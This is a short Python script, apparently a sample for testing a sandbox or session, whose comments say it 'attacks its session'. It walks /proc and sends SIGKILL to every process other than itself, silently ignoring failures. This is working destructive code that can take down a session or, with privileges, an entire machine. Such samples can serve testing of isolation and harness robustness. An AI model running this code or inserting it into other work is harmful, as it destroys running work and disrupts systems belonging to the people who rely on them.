# attacks its session by killing all processes in /proc
# ends: variously
import os
for p in os.listdir('/proc'):
    if p.isdigit() and int(p) != os.getpid():
        try: os.kill(int(p), 9)
        except OSError: pass
